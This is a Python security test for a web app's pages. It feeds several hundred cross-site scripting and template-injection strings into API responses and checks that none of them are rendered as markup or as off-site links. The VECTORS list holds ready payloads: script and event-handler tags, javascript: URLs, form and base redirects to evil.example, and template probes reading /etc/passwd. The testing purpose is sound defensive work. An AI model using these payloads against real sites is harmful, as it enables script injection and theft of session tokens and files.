"""Words of others on the pages: five hundred strings that would be markup, in every place that shows a person words.

Pages of hostile words must have no element with attributes that no page of harmless words has, and no address
elsewhere: then nothing that was written became markup, whatever a browser would have made of it.
"""

import asyncio
import itertools
import os
from html.parser import HTMLParser

import httpx
import msgspec
import pytest
from conference import Conference, a_note
from starlette.applications import Starlette

from detente.api.app import HttpApi
from detente.api.calls import Answer, Api
from detente.api.entrance import Entrance
from detente.api.hub import Bell
from detente.api.routes import ROUTES
from detente.api.sessions import Sessions
from detente.documents import incoming
from detente.documents.docx_reading import Side
from detente.documents.projections import State
from detente.ground.instants import Instant
from detente.procedures.signature.acts import Adopt
from detente.procedures.table.acts import Import
from detente.procedures.table.parse import VERSION
from detente.transport import clock
from detente.transport.desk import Desk
from detente.web import rolling
from detente.web.app import Pages

OPENINGS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`",
    "\\",
    "*#",
)
VECTORS = (
    "<script>xss()</script>", "<ScRiPt src=//evil.example/x></sCrIpT>", "<img src=x onerror=xss()>",
    "<svg onload=xss()>", "<svg><script>xss()</script></svg>", "<body onload=xss()>", "<iframe srcdoc='<script>xss()'>",
    "<iframe src=javascript:xss()>", "<a href=javascript:xss()>x</a>", "<a href=' java\tscript:xss()'>x</a>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//e.x>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=token>",
    "<button formaction=//evil.example>Sign in</button>", "<details open ontoggle=xss()>", "<video><source onerror=xss()>",
    "<object data=javascript:xss()>", "<embed src=//evil.example>", "<math><mtext><mglyph><style><img src=x onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>", "<template><script>xss()</script></template>",
    " onmouseover=xss() ", " autofocus onfocus=xss() x=", " style=position:fixed;inset:0 ", "javascript:xss()",
    "data:text/html,<script>xss()</script>", "{{ 7 * 7 }}{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${xss()}",
    "&lt;script&gt;xss()&lt;/script&gt;", "\u202e<img src=x onerror=xss()>\u202c", "\x3cscript\x3exss()\u2028</script>",
)  # fmt: skip
HOSTILE = ["".join(parts) for parts in itertools.product(OPENINGS, VECTORS)]
WORDS = {
    *("title", "name", "names", "subject", "text", "reason", "remark", "remarks", "sentence", "number", "language"),
    *("author", "author_name", "chair_name", "office", "offices", "drafted_by", "cleared_by", "authorised_by"),
    *("old", "new", "words", "code", "what", "why", "refused", "reading"),
    *("label", "lead", "tail", "verb", "parties", "sponsors", "kind", "members", "not_sealed", "not_consented"),
}
NAMED = ("form", "is", "state", "for", "status", "fate", "word", "outcome", "role")  # looked up by the pages: no words
EMPHASIS = {("em",), ("strong",), ("span", "class")}  # what a text's own stars and signs become
STEP = 100
HARMLESS = [f"Words of others, {number}" for number in range(STEP)]
TEXTS = {
    "An open text": "## Article 1\n\nThe Parties [shall][should [gladly [now [at once]]]] meet. [A propose: Or *not*.]\n",
    "A clean text": "## Article 1\n\nThe Parties meet.\n",
}


class Elsewhere:
    """A courier and places that nobody asks anything here."""

    reached = True
    relay_url = register_url = "http://127.0.0.1:9"


class Spoilt(Api):
    """The API, whose answers have hostile words wherever a person is to read some."""

    spoil = None

    async def call(self, session, method, path, **more):
        answer = await super().call(session, method, path, **more)
        if self.spoil is None or answer.value is None:
            return answer
        return Answer(self._spoilt(answer.value, "", path))

    def _spoilt(self, value, name, path):
        if isinstance(value, dict):
            return {key: self._spoilt(each, key, path) for key, each in value.items()}
        if isinstance(value, list | tuple):
            return [self._spoilt(each, name, path) for each in value]
        if isinstance(value, str) and name in WORDS and not self._is_looked_up(value, name):
            return next(self.spoil)
        return value

    @staticmethod
    def _is_looked_up(value, name):
        """Ids, and the fixed words of the rules: by these a page finds something, nobody wrote them."""
        fixed = (name in ("label", "ceiling") and value.isupper()) or (name == "kind" and value.isalpha())
        return fixed or name in NAMED or len(value) == 64 or value == ""


class World:
    """A line with notes, an open text, a sealed instrument and a draft; its pages, and who reads them."""

    def __init__(self):
        world = Conference(2)
        first, second = world.parties
        self.line, self.reader = world.found(), second
        for sequence in (1, 2):
            first.do(self.line, a_note(world, first, second, sequence=sequence))
        for title, source in TEXTS.items():
            first.do(self.line, Import(title, "en", VERSION, source))
        world.settle()
        parts = first.house.line(self.line).state.parts
        texts = {text.title: text for text in parts["table"].texts.values()}
        clean = texts["A clean text"]
        for party in world.parties:
            party.do(self.line, Adopt(clean.id, clean.document.digest))
            world.settle()
        draft = msgspec.structs.replace(a_note(world, second, first), number=None)
        second.house.drafts.write(self.line, "registry", draft, world.now)
        self.desk = Desk(self.opened, [].append, [].append)
        self.desk.start()
        line = f"/lines/{self.line.hex()}"
        text = f"{line}/texts/{texts['An open text'].id.hex()}"
        note = next(iter(parts["correspondence"].notes)).hex()
        self.text, self.paths = texts["An open text"], []
        clauses = [f"{text}/clauses/{each['id']}" for each in self.clauses(text)]
        self.paths += ["/", "/directory", line, f"{line}/log", f"{line}/notes", f"{line}/notes/new", f"{line}/notes/{note}",
                      f"{line}/notes/new?answers={note}", f"{line}/texts", text, f"{line}/texts/{clean.id.hex()}/clean",
                      f"{line}/instruments", f"{text}/documents", *clauses]  # fmt: skip

    def clauses(self, text):
        """The clauses of a text, as the API shows them."""
        api, _, session = self.served()
        return list(rolling.clauses(asyncio.run(api.call(session, "GET", text)).value["tree"]))

    def opened(self):
        self.reader.reopen()
        return self.reader.house

    def served(self):
        """The API and its pages, and a session of the reader's."""
        sessions = Sessions(os.urandom)
        api = Spoilt(Entrance(self.desk, Elsewhere(), sessions, Elsewhere(), Bell(), "127.0.0.1:80"), ROUTES)
        self.token, session = sessions.open("head-of-mission", bytes(16), clock.running())
        for digest, shown in self.brought():
            api.entrance.previews.keep(session.name, digest, self.line, shown, clock.running())
        return api, HttpApi(api, self.reader.id), session

    def brought(self):
        """A document that was brought as a new text, and one as the next revision."""
        facts = self.reader.house.line(self.line).state.facts
        raw = TEXTS["An open text"].replace("meet", "me\u0435t [again").encode()
        new = incoming.read_new(raw, "a text.md", Side.ACCEPTED, facts, self.reader.id)
        state = State(self.text, facts, 9, Instant(0))
        following = incoming.read_next(raw, "a text.md", Side.ACCEPTED, state, self.reader.id)
        path = f"/lines/{self.line.hex()}"
        paths = (f"{path}/documents/{new.digest}", f"{path}/texts/{self.text.id.hex()}/revisions/{following.digest}")
        self.paths += [each for each in paths if each not in self.paths]
        return (new.digest, new), (following.digest, following)

    def pages(self, spoil=(), templates=None):
        """Every page as it is served: (path, status, text), rendered for each round of words."""

        async def read():
            async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:80") as browser:
                browser.cookies.set(http.cookie, self.token)
                answers = [(path, await browser.get(path)) for path in self.paths]
            return [(path, answer.status_code, answer.text) for path, answer in answers]

        api, http, _ = self.served()
        made = Pages(api, http)
        if templates is not None:
            templates(made)
        transport = httpx.ASGITransport(Starlette(routes=made.routes))
        api.spoil = iter(spoil) if spoil else None
        return asyncio.run(read())


class Markup(HTMLParser):
    """What of a page is markup: elements with their attributes' names, and where its addresses lead."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements, self.addresses, self.words = set(), set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.add((tag, *sorted(name for name, _ in attributes)))
        self.addresses |= {
            value for name, value in attributes if name in ("href", "src", "action", "formaction", "data")
        }

    def handle_data(self, data):
        self.words.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = handle_data


@pytest.fixture(scope="module")
def world():
    made = World()
    yield made
    made.desk.stop()


def found_in(pages, harmless):
    """Markup that only hostile words can have brought."""
    wrong = []
    known = set(EMPHASIS).union(*(Markup(text).elements for _, _, text in harmless))
    for path, status, text in pages:
        markup = Markup(text)
        wrong += [] if status == 200 else [(path, status)]
        wrong += [(path, each) for each in markup.elements - known]
        wrong += [(path, each) for each in markup.addresses if not each.startswith(("/", "#")) or each.startswith("//")]
    return wrong


@pytest.mark.slow
@pytest.mark.attack("A54", "prevented")
def test_no_words_of_others_become_markup_on_any_page(world):
    assert len(HOSTILE) >= 500
    harmless = world.pages(itertools.cycle(HARMLESS))
    seen = set()
    for start in range(0, len(HOSTILE), STEP):
        counted = Counted(itertools.cycle(HOSTILE[start:] + HOSTILE[:start]))
        pages = world.pages(counted)
        assert found_in(pages, harmless) == []
        shown = "".join(word for _, _, text in pages for word in Markup(text).words)
        seen |= {each for each in counted.given - seen if each in shown}
    assert len(seen) > 450, "they were really shown, as words"


def test_control_templates_that_do_not_escape_are_found_out(world):
    def careless(pages):
        pages._templates.autoescape = False
        pages._templates.cache.clear()

    assert found_in(world.pages(itertools.cycle(HOSTILE), careless), world.pages(itertools.cycle(HARMLESS))) != []


class Counted:
    """Words that remember which of them were asked for."""

    def __init__(self, words):
        self.words, self.given = words, set()

    def __iter__(self):
        return self

    def __next__(self):
        word = next(self.words)
        self.given.add(word)
        return word
